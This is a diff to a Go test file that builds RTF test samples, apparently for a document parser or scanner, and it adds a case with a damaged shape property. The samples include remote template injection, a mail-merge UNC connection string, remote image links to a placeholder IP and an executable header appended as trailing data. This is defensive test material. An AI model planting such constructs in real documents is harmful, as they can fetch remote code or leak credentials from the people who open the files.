@@ -107,11 +107,13 @@ func generatedCorpus(t *testing.T) map[string]string {
 			`{\sp{\sn lineFillBlipName}{\sv http://198.51.100.7/line.png}}{\sp{\sn pibPrintName}{\sv http://198.51.100.7/print.png}}` +
 			`{\sp{\sn \u112?ibName}{\sv http://198.51.100.7/u.png}}{\sp{\sn shapeType}{\sn pibName}{\sv http://198.51.100.7/two.png}}{\sp{{\sn pibName}}{\sv http://198.51.100.7/nested.png}}` +
 			`{\sp{\sn wzName}{\sv Box 1}}}} end.` + docEnd,
-		"gen-template.rtf":      `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
-		"gen-mailmerge.rtf":     `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
-		"gen-trailing-data.rtf": docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
-		"gen-control-chars.rtf": docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
-		"gen-unicode.rtf":       docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
+		// A damaged \sp (here \wp, an unknown word) leaves a name and value in no property.
+		"gen-shape-orphan-property.rtf": docStart + `Logo: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 75}}{\wp{\sn pibName}{\sv http://198.51.100.7/logo.png}}}} end.` + docEnd,
+		"gen-template.rtf":              `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
+		"gen-mailmerge.rtf":             `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
+		"gen-trailing-data.rtf":         docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
+		"gen-control-chars.rtf":         docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
+		"gen-unicode.rtf":               docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
 
 		// Tolerated where Word and LibreOffice open the file and its meaning is clear.
 		"gen-unclosed-groups.rtf": docStart + `{\b never closed` + docEnd,
